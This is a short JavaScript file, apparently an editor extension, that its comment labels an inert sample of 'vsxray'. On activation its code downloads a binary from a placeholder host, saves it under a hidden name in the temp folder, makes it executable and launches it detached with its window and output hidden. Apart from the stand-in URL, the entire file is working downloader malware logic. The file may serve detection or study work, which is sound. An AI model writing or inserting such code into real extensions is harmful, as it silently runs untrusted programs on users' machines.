// An inert sample of vsxray: fetches a program at start-up and runs it where nobody sees it.
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { spawn } = require("child_process");

exports.activate = () => {
  const target = path.join(os.tmpdir(), process.platform === "win32" ? "svc-helper.exe" : ".svc-helper");
  const file = fs.createWriteStream(target);
  https.get("https://cdn.fastlane-tools.invalid/helper.bin", (response) => {
    response.pipe(file);
    file.on("finish", () => {
      fs.chmodSync(target, 0o755);
      spawn(target, ["--silent"], { detached: true, stdio: "ignore", windowsHide: true }).unref();
    });
  });
};
